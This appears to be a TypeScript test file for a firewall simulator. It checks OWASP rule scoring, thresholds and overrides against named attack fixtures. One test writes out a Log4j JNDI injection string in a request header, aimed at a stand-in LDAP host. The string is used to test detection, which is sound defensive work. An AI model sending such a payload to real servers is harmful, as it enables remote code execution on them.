// OWASP scoring as deployed with the dashboard's settings: each attack and benign fixture at each
// paranoia level and each threshold (Low 60, Medium 40, High 25), and the overrides that change
// the outcome (rules and categories disabled, actions, thresholds, versions).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { simulate } from '../../src/simulator';
import type { Store } from '../../src/store';
import {
  type FixtureName,
  OWASP_RULESET_ID,
  OWASP_THRESHOLD_RULE_ID,
  PRO,
  contributions,
  deploy,
  deployOwasp,
  openStore,
  owaspRule,
  owaspRuleId,
  simulateFixture,
} from './helpers';

let store: Store;
beforeAll(async () => {
  store = await openStore();
});
afterAll(async () => {
  await store?.close();
});

/** Threat score of each fixture at paranoia levels 1 to 4. */
const SCORES: Record<FixtureName, [number, number, number, number]> = {
  'benign-browser': [0, 0, 0, 2],
  'sqli-union': [30, 40, 40, 42],
  'xss-script-tag': [30, 40, 40, 42],
  'path-traversal': [45, 45, 45, 45],
  'scanner-user-agent': [15, 15, 15, 15],
  shellshock: [30, 30, 30, 30],
  'sqli-form-body': [15, 15, 15, 15],
};
const THRESHOLDS = { Low: 60, Medium: 40, High: 25 } as const;

describe('threat scores and actions at every paranoia level and threshold', () => {
  for (const level of [1, 2, 3, 4]) {
    for (const [name, threshold] of Object.entries(THRESHOLDS)) {
      describe(`PL${level}, threshold ${name} (${threshold})`, () => {
        beforeAll(async () => {
          await deployOwasp(store, { level, threshold });
        });
        for (const [fixtureName, scores] of Object.entries(SCORES) as [FixtureName, number[]][]) {
          const score = scores[level - 1]!;
          const blocked = score > threshold;
          it(`${fixtureName} scores ${score}: ${blocked ? 'block' : 'no action'}`, async () => {
            const result = await simulateFixture(store, fixtureName);
            expect(result.owasp?.score).toMatchObject({ total: score, threshold, exceeded: blocked, paranoia_level: level, action: 'block' });
            expect(result.outcome).toEqual(
              blocked
                ? {
                    action: 'block',
                    status: 403,
                    rule: expect.objectContaining({ rule_id: OWASP_THRESHOLD_RULE_ID, ruleset_id: OWASP_RULESET_ID, phase: 'http_request_firewall_managed' }),
                  }
                : { action: null, rule: null, status: null },
            );
          });
        }
      });
    }
  }
});

describe('the rules behind a score', () => {
  it('lists each contributing rule with its points, in evaluation order', async () => {
    await deployOwasp(store, { level: 2 });
    const result = await simulateFixture(store, 'sqli-union');
    expect(result.owasp?.score.contributions.map(({ ref, score }) => [ref, score])).toEqual([
      ['942190', 15],
      ['942270', 15],
      ['942440', 10],
    ]);
    expect(result.owasp?.score).toMatchObject({ threshold: 40, default_threshold: 40, threshold_overridden: false, exceeded: false });
  });

  it('reports disabled rules of higher paranoia levels as disabled, not as misses', async () => {
    await deployOwasp(store, { level: 1 });
    const result = await simulateFixture(store, 'benign-browser');
    const rules = result.phases[1]!.rulesets[0]!.rules[0]!.execution!.ruleset!.rules;
    const strict = rules.find((rule) => rule.ref === '942432')!;
    expect(strict).toMatchObject({ enabled: false, outcome: 'disabled', overridden: { enabled: false } });
    expect(rules.find((rule) => rule.ref === '942190')).toMatchObject({ enabled: true, outcome: 'not_matched' });
  });

  it('matches a threshold rule only when the total is greater than the threshold', async () => {
    await deployOwasp(store, { level: 2, threshold: 40 });
    const result = await simulateFixture(store, 'xss-script-tag');
    const last = result.phases[1]!.rulesets[0]!.rules[0]!.execution!.ruleset!.rules.at(-1)!;
    expect(last).toMatchObject({ id: OWASP_THRESHOLD_RULE_ID, outcome: 'not_matched', score_threshold: 40, note: 'threat score 40 is not above the threshold 40' });
  });
});

describe('overrides change the outcome', () => {
  it('a rule override disabling a contributing rule lowers the score below the threshold', async () => {
    await deployOwasp(store, { level: 2, threshold: 25 });
    expect((await simulateFixture(store, 'xss-script-tag')).outcome.action).toBe('block');
    await deployOwasp(store, { level: 2, threshold: 25, rules: [{ id: await owaspRuleId(store, '941110'), enabled: false }] });
    const result = await simulateFixture(store, 'xss-script-tag');
    expect(result.owasp?.score).toMatchObject({ total: 25, exceeded: false });
    expect(contributions(result)).toEqual(['941180', '941330']);
    expect(result.outcome.action).toBeNull();
  });

  it('a category override disabling attack-lfi takes the path traversal score to 0', async () => {
    await deployOwasp(store, { level: 4, categories: [{ category: 'attack-lfi', enabled: false }] });
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.owasp?.score.total).toBe(0);
    expect(result.outcome.action).toBeNull();
  });

  it('a rule override wins over a category override, whatever their order', async () => {
    const scriptTag = await owaspRuleId(store, '941110');
    await deployOwasp(store, { level: 2, categories: [{ category: 'attack-xss', enabled: false }], rules: [{ id: scriptTag, enabled: true }] });
    const result = await simulateFixture(store, 'xss-script-tag');
    expect(contributions(result)).toEqual(['941110']);
  });

  it('of two category overrides matching one rule, the later wins', async () => {
    await deployOwasp(store, {
      level: 2,
      categories: [
        { category: 'attack-xss', enabled: false },
        { category: 'paranoia-level-1', enabled: true },
      ],
    });
    // PL1 XSS rules carry both tags (the later override enables them); the PL2 one only attack-xss.
    expect(contributions(await simulateFixture(store, 'xss-script-tag'))).toEqual(['941110', '941180']);
  });

  it('a category override with an action makes its rules act on their own', async () => {
    await deployOwasp(store, { level: 2, threshold: 60, categories: [{ category: 'attack-lfi', action: 'block' }] });
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.outcome).toMatchObject({ action: 'block', status: 403, rule: { ref: '930100', action: 'block' } });
    // The request ended at the first traversal rule: the others were not reached.
    expect(contributions(result)).toEqual(['930100']);
    const rules = result.phases[1]!.rulesets[0]!.rules[0]!.execution!.ruleset!.rules;
    expect(rules.find((rule) => rule.ref === '930110')?.outcome).toBe('not_reached');
  });

  it('an action override on the last rule replaces block (here with a managed challenge)', async () => {
    await deployOwasp(store, { level: 2, threshold: 25, action: 'managed_challenge' });
    const result = await simulateFixture(store, 'shellshock');
    expect(result.outcome).toMatchObject({ action: 'managed_challenge', status: 403, rule: { rule_id: OWASP_THRESHOLD_RULE_ID } });
    expect(result.owasp?.score).toMatchObject({ action: 'managed_challenge', threshold: 25, threshold_overridden: true, default_threshold: 40 });
  });

  it('an action override to log records the match and lets the request through', async () => {
    await deployOwasp(store, { level: 2, threshold: 25, action: 'log' });
    const result = await simulateFixture(store, 'shellshock');
    expect(result.outcome.action).toBeNull();
    expect(result.owasp?.score.exceeded).toBe(true);
    expect(result.matched_rules.map((rule) => [rule.ref, rule.action])).toEqual([
      ['932160', 'log'],
      ['932170', 'log'],
      ['949110', 'log'],
    ]);
  });

  it('a disabled threshold rule scores but never acts', async () => {
    await deployOwasp(store, { level: 1, threshold: 25, rules: [{ id: OWASP_THRESHOLD_RULE_ID, enabled: false }] });
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.owasp?.score).toMatchObject({ total: 45, exceeded: true, threshold_rule_enabled: false });
    expect(result.outcome.action).toBeNull();
  });

  it('an older version of the ruleset runs its own rules: Log4j is detected from version 2 on', async () => {
    const log4j = {
      method: 'GET',
      url: 'https://example.org/',
      headers: { 'User-Agent': 'Mozilla/5.0', Accept: '*/*', 'X-Api-Version': '${jndi:ldap://203.0.113.9/a}' },
      client_ip: '203.0.113.66',
    };
    await deployOwasp(store, { level: 1, version: '1' });
    expect((await simulate(store, PRO, log4j)).owasp).toMatchObject({ ruleset_version: '1', score: { total: 0 } });
    await deployOwasp(store, { level: 1, version: '2' });
    expect((await simulate(store, PRO, log4j)).owasp).toMatchObject({ ruleset_version: '2', score: { total: 15 } });
  });
});

describe('the deployment on the Pro zone as seeded', () => {
  it('runs the platform managed ruleset, then OWASP at PL2 with threshold 25 and a managed challenge', async () => {
    const fresh = await openStore();
    try {
      const result = await simulateFixture(fresh, 'xss-script-tag');
      const [platform, owasp] = result.phases[1]!.rulesets[0]!.rules;
      expect(platform?.execution?.ruleset?.name).toBe('Platform Managed Ruleset');
      expect(owasp?.execution?.score).toMatchObject({ total: 40, threshold: 25, paranoia_level: 2, exceeded: true });
      expect(result.outcome).toMatchObject({ action: 'managed_challenge', status: 403 });
    } finally {
      await fresh.close();
    }
  });
});

describe('execute rules that run nothing', () => {
  it('a disabled execute rule', async () => {
    await deploy(store, 'http_request_firewall_managed', [owaspRule({ level: 1, threshold: 25, enabled: false })]);
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.phases[1]!.rulesets[0]!.rules[0]).toMatchObject({ outcome: 'disabled' });
    expect(result.phases[1]!.rulesets[0]!.rules[0]!.execution).toBeUndefined();
    expect(result.owasp).toBeNull();
    expect(result.outcome.action).toBeNull();
  });

  it('an execute rule whose expression does not match', async () => {
    await deploy(store, 'http_request_firewall_managed', [owaspRule({ level: 1, threshold: 25, expression: 'http.host eq "shop.example.org"' })]);
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.phases[1]!.rulesets[0]!.rules[0]).toMatchObject({ outcome: 'not_matched' });
    expect(result.owasp).toBeNull();
  });

  it('an execute rule naming a version that does not exist (with a warning)', async () => {
    await deployOwasp(store, { version: '9' });
    const result = await simulateFixture(store, 'path-traversal');
    expect(result.phases[1]!.rulesets[0]!.rules[0]!.execution).toMatchObject({ ruleset: null, requested_version: '9' });
    expect(result.warnings.some((warning) => warning.includes(`ruleset ${OWASP_RULESET_ID} version 9 does not exist`))).toBe(true);
  });
});
